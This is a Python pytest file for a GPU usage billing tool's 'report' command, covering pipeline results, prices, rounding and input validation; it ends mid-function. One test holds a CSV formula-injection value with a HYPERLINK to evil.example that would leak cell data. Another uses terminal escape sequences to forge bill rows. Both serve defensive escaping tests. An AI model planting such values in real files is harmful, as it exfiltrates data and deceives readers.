"""`hami-usage report`: the HAMi #3073 case through the whole pipeline (HAMi-core's cache files
-> the collector's scanner -> `aggregate` -> `report` from CSV, JSONL and Parquet), prices, the
cost reconciliation as a property, and bad flags."""

from __future__ import annotations

import contextlib
import csv
import io
import math
import os
import re
import resource
import shutil
import subprocess
import time
from dataclasses import replace
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import msgspec
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streams import HAMI_USAGE, T0_MS, env, hami, msg, write_local_log
from test_fair_share import run, schedules

from collector.aggregate.columns import to_table
from collector.aggregate.parquet import ParquetSink
from collector.aggregate.records import (
    CSV_FIELDS,
    SINCE_VERSION,
    BillingRecord,
    csv_header,
    csv_row,
    from_msgpack,
    iso_ms,
    jsonl_line,
    make_record_id,
    seconds,
    to_json,
    to_msgpack,
)
from collector.cli.args import iso_ms as args_iso_ms
from collector.events import Event, Identity, PodIdentity
from collector.node.scan import Scanner
from collector.report import html as html_report
from collector.report.bill import Bill, Line, hours, make_bill, money, to_csv
from collector.report.command import ReportArgs, make_report, table_text
from collector.report.html import render
from collector.report.load import LoadError
from collector.report.prices import PriceError, Prices
from collector.report.summary import HOUR_MS, TIMES, Summary
from collector.simulate import CacheWriter, GiB, MiB, SimDevice
from collector.transport import consumer

HOUR_S = 3600
BUSY_S = 1200
# 25 % of the cores and a quarter of an 80 GiB GPU's memory
QUARTER = (20 * GiB, 25)
PRICES = """
currency = "USD"
default = 2.00
[models]
"NVIDIA H100*" = 3.00
"""


def gpu(d: int) -> str:
    return f"GPU-{d:08d}-1111-4000-8000-000000000000"


def pod(c: int) -> str:
    return f"{c:08d}-0000-4000-8000-000000000000"


def case_3073_stream(root: Path) -> list[Event]:
    """Four containers at 25 % on GPU 0, one whole-GPU container on GPU 1, two at 25 % on
    GPU 2, for one hour of event time, scanned every 10 s; the files go at the hour. Container
    0 is busy (25 % SM) for its first `BUSY_S` seconds, every other one never."""
    layout = [(0, *QUARTER)] * 4 + [(1, 80 * GiB, 0)] + [(2, *QUARTER)] * 2
    writers = []
    for c, (d, limit, sm) in enumerate(layout):
        folder = root / f"{pod(c)}_main"
        folder.mkdir(parents=True)
        from collector.layout.declarations import LAYOUTS

        w = CacheWriter(folder / "0.cache", LAYOUTS["v1.2"], [SimDevice(gpu(d), limit, sm)])
        w.add_process(100, 40_000 + c)
        w.add_memory(100, 0, "context", 200 * MiB)
        writers.append(w)
    scanner = Scanner(root, heartbeat_s=30, inc=77)
    events: list[Event] = []
    for s in range(0, HOUR_S, 10):
        if s in (0, BUSY_S):  # container 0 runs kernels at its 25 % for its first 20 minutes
            writers[0].watch({40_000: {0: (0, 25 if s == 0 else 0)}})
        events += scanner.scan(T0_MS + s * 1000)
        if s % 30 == 0:  # what the pod watch would say (seqs of their own, never the scanner's)
            # the scanner's own numbering, as its identity stage would send them
            events += [scanner._stamp(PodIdentity, identity=who(c)) for c in range(len(layout))]
    for w in writers:
        w.close()
        shutil.rmtree(w.path.parent)
    events += scanner.scan(T0_MS + HOUR_S * 1000)
    return events


# (namespace, workload, team label) of each container
WHO = (
    [("team-a", "train", "vision")] * 4
    + [("team-b", "serve", "nlp")]
    + [("research", "nb", "")] * 2
)


def who(c: int) -> Identity:
    ns, workload, team = WHO[c]
    labels = {"team": team} if team else {}
    return Identity(pod(c), ns, f"{workload}-{c}", "Deployment", workload, labels)


def report_rows(text: str) -> dict[tuple[str, str], dict[str, str]]:
    return {(r["kind"], r["pod"] or r["gpu_model"]): r for r in csv.DictReader(io.StringIO(text))}


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The #3073 hour through the collector's scanner and `aggregate --drain` into CSV, JSONL
    and Parquet (done once for the tests below); the folder holds prices.toml too."""
    tmp = tmp_path_factory.mktemp("pipeline")
    events = case_3073_stream(tmp / "root")
    write_local_log(tmp / "log", [msg("node-a", e) for e in events])
    proc = hami(
        "aggregate", "--log", tmp / "log", "--drain", "--allocation-policy", "cores",
        "--csv", tmp / "b.csv", "--jsonl", tmp / "b.jsonl", "--parquet", tmp / "pq",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    (tmp / "prices.toml").write_text(PRICES)
    return tmp


RANGE = ["--from", "2026-03-02T00:00:00Z", "--to", "2026-03-03T00:00:00Z"]


def report(tmp: Path, *args: str | Path) -> tuple[str, str]:
    """`report` over the pipeline's Parquet: (its stdout, its --out-csv)."""
    out = tmp / "report.csv"
    proc = hami("report", *RANGE, "--prices", tmp / "prices.toml", "--out-csv", out, *args)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout, out.read_text()


def test_hami_3073_through_the_whole_pipeline(pipeline: Path) -> None:
    tmp_path = pipeline
    assert sorted(p.name for p in (tmp_path / "pq").iterdir()) == ["day=2026-03-02"]
    texts = []
    for src in (
        ["--csv", tmp_path / "b.csv"],
        ["--jsonl", tmp_path / "b.jsonl"],
        ["--parquet", tmp_path / "pq"],
    ):
        stdout, text = report(tmp_path, *src, "--by", "pod")
        assert "total" in stdout
        texts.append(text)
    assert texts[0] == texts[1] == texts[2]  # the same bill from every source
    rows = report_rows(texts[0])
    # no inventory: the model is unknown and the default price (2.00) applies
    for c in range(4):
        assert rows[("group", f"{WHO[c][1]}-{c}")]["gpu_hours_allocated"] == "0.250000"
        assert rows[("group", f"{WHO[c][1]}-{c}")]["cost"] == "0.50"
    assert rows[("group", "serve-4")]["gpu_hours_allocated"] == "1.000000"
    assert rows[("group", "serve-4")]["cost"] == "2.00"
    # reserved but idle: container 0 idles 40 of its 60 minutes at 25 %, the others all hour
    assert rows[("group", "train-0")]["gpu_hours_used"] == "0.083333"  # 25 % x 20 min
    assert rows[("group", "train-0")]["gpu_hours_reserved_idle"] == "0.166667"  # 25 % x 40 min
    for c in (1, 2, 3, 5, 6):
        row = rows[("group", f"{WHO[c][1]}-{c}")]
        assert row["gpu_hours_reserved_idle"] == row["gpu_hours_allocated"] == "0.250000"
    assert rows[("group", "serve-4")]["gpu_hours_reserved_idle"] == "1.000000"
    assert rows[("idle", "")]["gpu_hours_reserved_idle"] == ""
    assert rows[("total", "")]["gpu_hours_reserved_idle"] == "2.416667"
    for c in (5, 6):
        assert rows[("group", f"{WHO[c][1]}-{c}")]["gpu_hours_allocated"] == "0.250000"
    # idle: 0 on GPU 0 and 1, 0.5 on GPU 2, all of the (unknown) model ""
    assert rows[("idle", "")]["gpu_hours_allocated"] == "0.500000"
    assert rows[("idle", "")]["cost"] == "1.00"
    assert rows[("rounding_residue", "")]["cost"] == "0.00"
    # three GPUs observed for an hour at 2.00
    assert rows[("total", "")]["gpu_hours_allocated"] == "3.000000"
    assert rows[("total", "")]["cost"] == "6.00"

    # per GPU and window in the records: allocated + idle = observed, the #3073 numbers
    records = list(csv.DictReader((tmp_path / "b.csv").open()))
    assert {r["namespace"] for r in records if r["kind"] == "container"} == {
        "team-a",
        "team-b",
        "research",
    }
    per_gpu: dict[str, dict[str, Fraction]] = {}
    for r in records:
        acc = per_gpu.setdefault(
            r["device_uuid"], {"alloc": Fraction(0), "idle": Fraction(0), "obs": Fraction(0)}
        )
        if r["kind"] == "container":
            acc["alloc"] += Fraction(r["allocated_gpu_seconds"])
        elif r["kind"] == "idle":
            acc["idle"] += Fraction(r["allocated_gpu_seconds"])
        elif r["kind"] == "gpu":
            acc["obs"] += Fraction(r["observed_seconds"])
    assert per_gpu[gpu(0)] == {"alloc": HOUR_S, "idle": 0, "obs": HOUR_S}
    assert per_gpu[gpu(1)] == {"alloc": HOUR_S, "idle": 0, "obs": HOUR_S}
    assert per_gpu[gpu(2)] == {"alloc": HOUR_S / 2, "idle": HOUR_S / 2, "obs": HOUR_S}


def test_records_before_reserved_idle_are_not_counted_as_idle(pipeline: Path) -> None:
    """Version 1 records (a CSV without the column, JSON with `version` 1) did not measure
    reserved-idle: the report counts none for them and says for how many GPU-hours."""
    old_fields = [f for f in CSV_FIELDS if f not in SINCE_VERSION]
    with (pipeline / "b.csv").open() as f, (pipeline / "v1.csv").open("w") as out:
        w = csv.DictWriter(out, old_fields, extrasaction="ignore", lineterminator="\n")
        w.writeheader()
        w.writerows(csv.DictReader(f))
    with (pipeline / "b.jsonl").open("rb") as f, (pipeline / "v1.jsonl").open("wb") as out:
        for line in f:
            obj = msgspec.json.decode(line)
            del obj["reserved_idle_gpu_seconds"]
            out.write(msgspec.json.encode({**obj, "version": 1}) + b"\n")
    # JSON Lines written before records had a version: the same records, read as version 1
    with (pipeline / "v1.jsonl").open("rb") as f, (pipeline / "v0.jsonl").open("wb") as out:
        for line in f:
            obj = msgspec.json.decode(line)
            del obj["version"]
            out.write(msgspec.json.encode(obj) + b"\n")
    # a Parquet part written before the column existed: it reads as null, its version says 1
    for part in (pipeline / "pq").glob("day=*/part-*.parquet"):
        old = pq.read_table(part).drop_columns(["reserved_idle_gpu_seconds"])
        old = old.set_column(old.schema.get_field_index("version"), "version", pa.array(
            [1] * old.num_rows, pa.int64()
        ))  # fmt: skip
        (pipeline / "pq1" / part.parent.name).mkdir(parents=True, exist_ok=True)
        pq.write_table(old, pipeline / "pq1" / part.parent.name / part.name)
    page = pipeline / "v1.html"
    texts = []
    sources = (
        ["--csv", pipeline / "v1.csv"],
        ["--jsonl", pipeline / "v1.jsonl"],
        ["--parquet", pipeline / "pq1"],
        ["--jsonl", pipeline / "v0.jsonl"],
    )
    for src in sources:
        stdout, text = report(pipeline, *src, "--by", "pod", "--html", page)
        assert "reserved-idle not measured for 2.500000 GPU-h" in stdout, stdout
        assert "Not measured for 2.500000 GPU-h" in page.read_text()
        texts.append(text)
    assert texts[0] == texts[1] == texts[2] == texts[3]
    rows = report_rows(texts[0])
    assert {r["gpu_hours_reserved_idle"] for r in rows.values() if r["kind"] == "group"} == {
        "0.000000"
    }
    assert rows[("total", "")]["gpu_hours_allocated"] == "3.000000"  # the bill is unchanged
    # with the version 2 records the note is gone
    stdout, _ = report(pipeline, "--csv", pipeline / "b.csv")
    assert "not measured" not in stdout


def test_grouped_by_namespace_workload_label_and_several(pipeline: Path) -> None:
    pq = ["--parquet", pipeline / "pq"]
    text = report(pipeline, *pq, "--by", "namespace")[1]
    got = {
        r["namespace"]: (r["gpu_hours_allocated"], r["cost"])
        for r in csv.DictReader(io.StringIO(text))
        if r["kind"] == "group"
    }
    assert got == {
        "team-a": ("1.000000", "2.00"),
        "team-b": ("1.000000", "2.00"),
        "research": ("0.500000", "1.00"),
    }
    text = report(pipeline, *pq, "--by", "workload")[1]
    got = {
        r["workload"]: r["gpu_hours_allocated"]
        for r in csv.DictReader(io.StringIO(text))
        if r["kind"] == "group"
    }
    assert got == {
        "Deployment/train": "1.000000",
        "Deployment/serve": "1.000000",
        "Deployment/nb": "0.500000",
    }
    text = report(pipeline, *pq, "--by", "label:team", "--by", "namespace")[1]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [
        "kind", "label_team", "namespace", "gpu_model", "gpu_hours_allocated", "gpu_hours_used",
        "gpu_hours_reserved_idle", "efficiency", "memory_gib_hours", "cost", "currency",
    ]  # fmt: skip
    got = {(r["label_team"], r["namespace"]): r["cost"] for r in rows if r["kind"] == "group"}
    assert got == {
        ("vision", "team-a"): "2.00",
        ("nlp", "team-b"): "2.00",
        ("", "research"): "1.00",
    }


def test_by_gpu_model_is_one_gpu_model_column(pipeline: Path) -> None:
    """--by gpu-model's column is the idle rows' gpu_model too: no column name twice."""
    header = [
        "kind", "namespace", "gpu_model", "gpu_hours_allocated", "gpu_hours_used",
        "gpu_hours_reserved_idle", "efficiency", "memory_gib_hours", "cost", "currency",
    ]  # fmt: skip
    text = report(pipeline, "--parquet", pipeline / "pq", "--by", "namespace", "--by", "gpu-model")
    assert next(csv.reader(io.StringIO(text[1]))) == header
    # the rows, with a model the pipeline's records (no NVML inventory) do not name
    a100 = "NVIDIA A100-SXM4-80GB"
    group = Line("group", ("team-a", a100), HOUR_MS, HOUR_MS // 2, 0.0, Fraction(2), Fraction(2))
    idle = Line("idle", (a100,), HOUR_MS // 2, 0, 0.0, Fraction(1), Fraction(1))
    bill = Bill(["namespace", "gpu-model"], "USD", [group], [idle], [])
    rows = list(csv.reader(io.StringIO(to_csv(bill))))
    assert rows[0] == header
    assert [r[:3] for r in rows[1:]] == [
        ["group", "team-a", a100], ["idle", "", a100], ["rounding_residue", "", ""],
        ["total", "", ""],
    ]  # fmt: skip
    assert [r[-2] for r in rows[1:]] == ["2.00", "1.00", "0.00", "3.00"]
    # without --by gpu-model, the one gpu_model column after the --by columns, as before
    bill = Bill(["namespace"], "USD", [replace(group, key=("team-a",))], [idle], [])
    rows = list(csv.reader(io.StringIO(to_csv(bill))))
    assert rows[0] == header
    assert [r[:3] for r in rows[1:3]] == [["group", "team-a", ""], ["idle", "", a100]]


def test_a_group_named_like_a_formula_is_text_in_the_bill_csv() -> None:
    """A device UUID is what a tenant's cache file says: `--by gpu` with one that is a formula
    gives a cell with an apostrophe before it; the numbers (a negative residue among them) are
    left as they are."""
    evil = '=HYPERLINK("http://evil.example/?"&A2,"GPU-0")'
    third = Fraction(2, 3)  # 0.67 twice: the rounding residue is -0.01
    group = Line("group", (evil,), HOUR_MS, HOUR_MS // 2, 0.0, third, third)
    idle = Line("idle", ("@SUM(1)",), HOUR_MS // 2, 0, 0.0, third, third)
    bill = Bill(["gpu"], "USD", [group], [idle], [])
    rows = list(csv.reader(io.StringIO(to_csv(bill))))
    assert [r[:3] for r in rows[1:3]] == [["group", "'" + evil, ""], ["idle", "", "'@SUM(1)"]]
    assert rows[3][-2] == "-0.01"


def test_a_name_that_would_forge_or_rewrite_rows_is_shown_escaped_in_the_table() -> None:
    """An owner's name with a newline forged a row of the terminal bill; `ESC[1A ESC[2K`
    rewrote the row above it."""
    forged = "Thing/x\nStatefulSet/db   0.000000"
    erase = "Thing/x\x1b[1A\x1b[2KPod/db-0"
    lines = [Line("group", (name,), HOUR_MS, 0, 0.0, Fraction(1), Fraction(1))
             for name in (forged, erase)]  # fmt: skip
    text = table_text(Bill(["workload"], "USD", lines, [], []))
    assert "\x1b" not in text and len(text.splitlines()) == 6
    assert "Thing/x\\nStatefulSet/db   0.000000" in text
    assert "Thing/x\\x1b[1A\\x1b[2KPod/db-0" in text


def test_discounts_by_namespace_and_label(pipeline: Path) -> None:
    prices = pipeline / "discount.toml"
    prices.write_text(PRICES + "[namespaces]\nresearch = -0.5\n[labels.team]\nvision = 0.1\n")
    out = pipeline / "d.csv"
    proc = hami(
        "report", *RANGE, "--parquet", pipeline / "pq", "--prices", prices, "--out-csv", out
    )
    assert proc.returncode == 0, proc.stderr
    got = {r["namespace"] or r["kind"]: r["cost"] for r in csv.DictReader(out.open())}
    # team-a 2.00 + 10 %, research 1.00 - 50 %, idle and team-b at list price
    assert got == {
        "team-a": "2.20", "team-b": "2.00", "research": "0.50", "idle": "1.00",
        "rounding_residue": "0.00", "total": "5.70",
    }  # fmt: skip


def test_html_report_opens_in_headless_chromium(pipeline: Path) -> None:
    page = pipeline / "report.html"
    proc = hami(
        "report", *RANGE, "--parquet", pipeline / "pq", "--prices", pipeline / "prices.toml",
        "--by", "namespace", "--html", page,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    text = page.read_text()
    # self-contained: no script, nothing fetched (the SVG namespaces are names, not requests)
    assert "<script" not in text and "src=" not in text and 'href="http' not in text
    shot = pipeline / "report.png"
    dom, console = chromium(page, shot)
    assert not console, console
    charts = ("chart-over-time", "chart-allocated-used", "chart-reserved-idle", "chart-idle")
    for chart in charts:
        start = dom.index(f'<figure id="{chart}">')
        assert "<svg" in dom[start : dom.index("</figure>", start)], chart
    assert '<table class="bill">' in dom and '<table class="reconciliation">' in dom
    assert ">team-a<" in dom and ">yes<" in dom  # a group and a balanced model row
    start = dom.index('<figure id="chart-reserved-idle">')
    chart = dom[start : dom.index("</figure>", start)]
    assert "reserved but idle" in chart and "rest of allocated" in chart and ">used<" in chart
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_an_output_that_cannot_be_written_whole_is_one_line_and_no_cut_off_file(
    pipeline: Path,
) -> None:
    """The disk takes 4 KiB and no more (RLIMIT_FSIZE, as a full disk would refuse): the
    report says which file in one line, exit 1, and leaves no half page behind."""
    page = pipeline / "cut.html"

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    proc = subprocess.run(
        [str(HAMI_USAGE), "report", *RANGE, "--parquet", str(pipeline / "pq"),
         "--prices", str(pipeline / "prices.toml"), "--html", str(page)],
        capture_output=True, text=True, timeout=120, env=env(), preexec_fn=small_files,
    )  # fmt: skip
    assert (proc.returncode, proc.stderr) == (1, f"hami-usage report: {page}: File too large\n")
    assert not page.exists() and not list(pipeline.glob("cut.html*"))


def test_a_range_without_records_is_a_quiet_empty_report(pipeline: Path) -> None:
    """A month before the data: a bill of zeros and a page, and nothing on stderr (the charts
    have nothing to name, so no legend is drawn)."""
    page = pipeline / "empty.html"
    proc = hami(
        "report", "--from", "2026-01-01T00:00:00Z", "--to", "2026-02-01T00:00:00Z",
        "--parquet", pipeline / "pq", "--prices", pipeline / "prices.toml", "--html", page,
    )  # fmt: skip
    assert (proc.returncode, proc.stderr) == (0, "")
    assert page.read_text().count("<svg") == 4


def chromium(page: Path, shot: Path) -> tuple[str, list[str]]:
    """Debian's Chromium, headless: the DOM it built, and the page's console messages
    (Chromium logs them to stderr as CONSOLE lines); a screenshot into `shot`."""
    exe = shutil.which("chromium")
    assert exe, "chromium is installed by scripts/install-debs.sh (scripts/test.sh runs it)"
    flags = [
        exe, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
        "--enable-logging=stderr", "--v=0", "--window-size=1100,1500",
    ]  # fmt: skip
    url = page.resolve().as_uri()
    dump = subprocess.run([*flags, "--dump-dom", url], capture_output=True, text=True, timeout=120)
    assert dump.returncode == 0, dump.stderr
    subprocess.run(
        [*flags, f"--screenshot={shot}", url], capture_output=True, timeout=120, check=True
    )
    console = [ln for ln in dump.stderr.splitlines() if "CONSOLE" in ln or "net::ERR" in ln]
    return dump.stdout, console


# --- prices ---------------------------------------------------------------------------------


def test_prices_exact_before_glob_before_default_and_adjustments() -> None:
    p = Prices.parse(
        """
        currency = "eur"
        default = 1.1
        [models]
        "NVIDIA H100*" = 2.49
        "NVIDIA H100 80GB HBM3" = 2.2
        "NVIDIA A1?0*" = 1.6
        [namespaces]
        research = -0.2
        [labels.team]
        vision = 0.1
        """
    )
    assert p.currency == "EUR"
    assert p.price("NVIDIA H100 80GB HBM3") == Decimal("2.2")  # exact wins over the glob
    assert p.price("NVIDIA H100 NVL") == Decimal("2.49")
    assert p.price("NVIDIA A100-SXM4-80GB") == Decimal("1.6")
    assert p.price("Tesla T4") == Decimal("1.1")
    assert p.factor("research", {"team": "vision"}) == Fraction(88, 100)
    assert p.factor("prod", {"team": "nlp"}) == 1
    # A GPU without inventory has no model: the default, which a glob matching everything
    # took from it.
    everything = Prices.parse('default = 1.1\n[models]\n"*" = 10')
    assert (everything.price(""), everything.price("Tesla T4")) == (Decimal("1.1"), 10)
    # ... or an entry for no model, which was taken before the globs stopped matching ""
    # (then left silently unapplied)
    named = Prices.parse('default = 1.2\n[models]\n"" = 0\n"*" = 3')
    assert (named.price(""), named.price("Tesla T4")) == (0, 3)


@pytest.mark.parametrize(
    "text, message",
    [
        ("default = -1", "negative"),
        ('currency = "US Dollar"', "currency"),
        ("bogus = 1", "unknown key 'bogus'"),
        ('[models]\n"x" = "cheap"', "not a number"),
        ("[namespaces]\na = -2", "below -1"),
        ("default = [", "prices"),
        # matched no record's labels: an adjustment never applied, without a word
        ('[labels]\n"" = {a = 0.1}', "labels.'' is not a label key"),
        ('[labels."team x"]\na = 0.1', "labels.'team x' is not a label key"),
        # a pod without the label is grouped under "" too: it was priced as the value
        ('[labels.team]\n"" = -1', "labels.team: an empty value cannot be told from no label"),
    ],
)
def test_bad_prices_are_one_clear_line(text: str, message: str) -> None:
    with pytest.raises(PriceError, match=message):
        Prices.parse(text)


def test_half_even_rounding_and_the_stated_residue() -> None:
    assert money(Fraction(5, 1000)) == Decimal("0.00")  # 0.005 -> 0.00 (even)
    assert money(Fraction(15, 1000)) == Decimal("0.02")
    assert str(money(Fraction(-5, 100))) == "-0.05" and str(money(Fraction(0))) == "0.00"
    # exact at any size: not rounded to Decimal's 28 digits (1.8E+28), nor a residue of 0E+1
    huge = Fraction(10**30 + 1, 100)
    assert str(money(huge)) == "10000000000000000000000000000.01"
    third = Fraction(10**30, 3)
    group = Line("group", ("a",), 0, 0, 0.0, third, third)
    bill = Bill(["namespace"], "USD", [group, replace(group, key=("b",))], [], [])
    assert str(bill.residue) == "0.01"  # 333...33.33 twice against a total of 666...66.67


# --- the reconciliation property ------------------------------------------------------------


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    schedules(),
    st.sampled_from(["cores", "memory", "max", "usage"]),
    st.decimals(min_value=0, max_value=100, places=3),
    st.decimals(min_value=0, max_value=100, places=2),
)
def test_cost_total_is_observed_hours_times_price_to_the_cent(
    events: list[Event], policy: str, h100: Decimal, default: Decimal
) -> None:
    records, _ = run(events, policy)  # type: ignore[arg-type]
    prices = Prices.parse(f'default = {default}\n[models]\n"NVIDIA H100*" = {h100}')
    summary = Summary(["namespace", "pod"], HOUR_MS, [])
    summary.add(to_table(records, TIMES))
    bill = make_bill(summary, prices)
    observed = sum(
        (
            Fraction(round(r.observed_seconds * 1000))
            / HOUR_MS
            * Fraction(prices.price(r.gpu_model))
            for r in records
            if r.kind == "gpu"
        ),
        Fraction(0),
    )
    assert bill.total == observed  # exact: every observed millisecond is allocated or idle
    lines = sum((money(x.cost) for x in bill.lines), Decimal(0))
    assert lines + bill.residue == money(observed)  # to the cent, after the stated residue
    assert all(m.balanced for m in bill.models)


# --- bad flags ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, message",
    [
        (["--from", "x", "--to", "2026-01-02"], "--from 'x': not an ISO-8601 time"),
        # beyond the UTC years a chart's axis and a day folder name: a traceback after the read
        (
            ["--from", "0001-01-01T00:00:00+14:00", "--to", "2026-01-02", "--parquet", "."],
            "--from '0001-01-01T00:00:00+14:00': before 0001-01-01T00:00:00Z",
        ),
        (
            ["--from", "2026-01-01", "--to", "9999-12-31T23:59:59-14:00", "--jsonl", "a"],
            "--to '9999-12-31T23:59:59-14:00': after 9999-12-31T23:59:59.999Z",
        ),
        (["--from", "2026-01-02", "--to", "2026-01-01", "--csv", "a"], "--to must be after"),
        (["--from", "2026-01-01", "--to", "2026-01-02"], "give --csv, --jsonl"),
        (
            ["--from", "2026-01-01", "--to", "2026-01-02", "--csv", "a", "--by", "team"],
            "--by 'team'",
        ),
        # (the name went into the bill's header as it was: a second header line)
        (
            ["--from", "2026-01-01", "--to", "2026-01-02", "--csv", "a", "--by", "label:a\nb"],
            "--by 'label:a\\nb': one of namespace, workload, pod, node, gpu-model or "
            "label:NAME (NAME a label key)",
        ),
    ],
)
def test_report_usage_errors(args: list[str], message: str) -> None:
    proc = hami("report", *args)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.count("\n") == 1 and message in proc.stderr, proc.stderr


SPAN = ["--from", "2026-01-01", "--to", "2026-01-02"]


@pytest.mark.parametrize(
    "args, message",
    [
        (["--kafka", "not a host"], "invalid setting kafka: 'not a host' is not host:port"),
        (
            ["--kafka", "127.0.0.1:99999"],
            "invalid setting kafka: port 99999 of '127.0.0.1:99999' is outside 1..65535",
        ),
        (["--kafka", ""], "invalid setting kafka: must be 1 to 4096 characters of host:port,..."),
        (
            ["--kafka", "127.0.0.1:9", "--billing-topic", "../x"],
            "invalid setting billing_topic: '../x' is not 1 to 249 of the characters "
            "A-Z a-z 0-9 . _ -",
        ),
        # an empty source, price list or output is refused, never taken for "not given"
        (["--csv", "{in}", "--parquet", ""], "invalid setting parquet: must not be empty"),
        (["--csv", "{in}", "--prices", ""], "invalid setting prices: must not be empty"),
        (["--csv", "{in}", "--out-csv", ""], "invalid setting out_csv: must not be empty"),
        (["--csv", "{in}", "--html", ""], "invalid setting html: must not be empty"),
        (["--csv", ""], "invalid setting csv: must not be empty"),
        # outputs are checked before any input is read: the missing input is not reached
        (
            ["--csv", "{in}", "--out-csv", "/nonexistent/dir/x.csv"],
            "--out-csv /nonexistent/dir/x.csv: cannot write: No such file or directory",
        ),
        (["--csv", "{in}", "--html", "{dir}"], "--html {dir}: is a directory"),
        (
            ["--csv", "{in}", "--by", "namespace,namespace"],
            "--by 'namespace': column namespace given twice",
        ),  # fmt: skip
        (
            ["--csv", "{in}", "--by", "label:a-b", "--by", "label:a_b"],
            "--by 'label:a_b': column label_a_b given twice",
        ),
    ],
    ids=lambda v: repr(v)[:50],
)
def test_report_flags_are_checked_before_anything_is_read(
    tmp_path: Path, args: list[str], message: str
) -> None:
    where = {"in": str(tmp_path / "missing.csv"), "dir": str(tmp_path)}
    proc = hami("report", *SPAN, *(a.format(**where) for a in args))
    assert "Traceback" not in proc.stderr, proc.stderr
    expected = f"hami-usage report: {message.format(**where)}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (2, "", expected)


def _billing_csv(tmp_path: Path, *rows: bytes) -> Path:
    path = tmp_path / "in.csv"
    path.write_bytes(",".join(CSV_FIELDS).encode() + b"\n" + b"".join(rows))
    return path


@pytest.mark.parametrize(
    "rows, message",
    [
        (  # a row cut short: a file still being written, a disk that filled up
            [b"2026-01-01T00:00:00Z\n"],
            f"{{path}}:2: not a billing record: the row has 1 of the header's {len(CSV_FIELDS)} "
            "fields",
        ),
        (
            [b"x," * len(CSV_FIELDS) + b"x\n"],
            f"{{path}}:2: not a billing record: the row has {len(CSV_FIELDS) + 1} fields, the "
            f"header {len(CSV_FIELDS)}",
        ),
        ([b"\xff\xfe\n"], "{path}: not a billing record CSV: not UTF-8 text"),
        (
            [b'"' + b"x" * 200_000 + b'"\n'],
            "{path}: not a billing record CSV: field larger than field limit (131072)",
        ),  # fmt: skip
    ],
    ids=["short-row", "long-row", "not-utf8", "huge-field"],
)
def test_a_damaged_billing_csv_is_one_line_and_exit_1(
    tmp_path: Path, rows: list[bytes], message: str
) -> None:
    """README: an unreadable input is one line, exit 1 (each once a traceback)."""
    path = _billing_csv(tmp_path, *rows)
    proc = hami("report", *SPAN, "--csv", path)
    assert "Traceback" not in proc.stderr, proc.stderr
    expected = f"hami-usage report: {message.format(path=path)}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


@pytest.mark.parametrize("cut", [1, 3])
def test_a_csv_cut_inside_its_last_field_is_one_line_and_exit_1(tmp_path: Path, cut: int) -> None:
    """The last field, `reserved_idle_gpu_seconds` 0.000, cut to "0.0" (or "0.00") is a valid
    number: the record was billed. Only the missing line end shows the cut."""
    text = _csv_text(_window("GPU-1"))
    path = tmp_path / "in.csv"
    path.write_text(text[:-cut])
    proc = hami("report", *SPAN, "--csv", path)
    line = text.count("\n")
    expected = (
        f"hami-usage report: {path}:{line}: not a billing record: the file ends inside the row "
        "(no line end: cut off)\n"
    )
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)
    path.write_text(text.replace("\n", "\r\n"))  # a line end of another system
    assert hami("report", *SPAN, "--csv", path).returncode == 0


@pytest.mark.parametrize(
    "header, message",
    [
        (b"myhost\n", "its header has no window_start column"),  # (/etc/hostname)
        (",".join(CSV_FIELDS[:3]).encode(), "its header has no pod_uid column"),  # cut off
        (
            ",".join((*CSV_FIELDS, "extra")).encode() + b"\n",
            "its header has an unknown column 'extra'",
        ),
        (",".join((*CSV_FIELDS, "node")).encode() + b"\n", "its header has a column twice"),
    ],
    ids=["other-file", "cut-header", "unknown-column", "twice"],
)
def test_a_csv_whose_header_is_no_billing_header_is_one_line_and_exit_1(
    tmp_path: Path, header: bytes, message: str
) -> None:
    """Any CSV without a data row used to be an empty bill, exit 0."""
    path = tmp_path / "in.csv"
    path.write_bytes(header)
    proc = hami("report", *SPAN, "--csv", path)
    expected = f"hami-usage report: {path}: not a billing record CSV: {message}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def test_a_billing_csv_of_the_first_version_and_an_empty_file_are_read(tmp_path: Path) -> None:
    first = tmp_path / "v1.csv"  # before reserved_idle_gpu_seconds (version 2)
    first.write_text(",".join(f for f in CSV_FIELDS if f not in SINCE_VERSION) + "\n")
    (tmp_path / "empty.csv").write_bytes(b"")
    proc = hami("report", *SPAN, "--csv", first, "--csv", tmp_path / "empty.csv")
    assert proc.returncode == 0, proc.stderr


def test_report_of_a_missing_file_is_one_line(tmp_path: Path) -> None:
    proc = hami("report", "--from", "2026-01-01", "--to", "2026-01-02", "--csv", tmp_path / "no")
    assert proc.returncode == 1
    assert proc.stderr == f"hami-usage report: {tmp_path / 'no'}: no such file\n"


@pytest.mark.parametrize(
    "flag, kind, why",
    [
        ("--jsonl", "folder", "is a directory"),
        ("--csv", "/dev/null", "not a regular file"),
        ("--csv", "fifo", "not a regular file"),
        # a Parquet part that is a FIFO blocked the report for good
        ("--parquet", "fifo-part", "not a regular file"),
        ("--parquet", "folder-part", "is a directory"),
    ],
)
def test_report_of_an_input_that_is_no_regular_file_says_what_it_is(
    tmp_path: Path, flag: str, kind: str, why: str
) -> None:
    """Each was "no such file", of a file that is there."""
    day = tmp_path / "pq" / "day=2026-01-01"
    path = {
        "folder": tmp_path, "/dev/null": Path("/dev/null"), "fifo": tmp_path / "f",
        "fifo-part": day / "part-0.parquet", "folder-part": day / "part-0.parquet",
    }[kind]  # fmt: skip
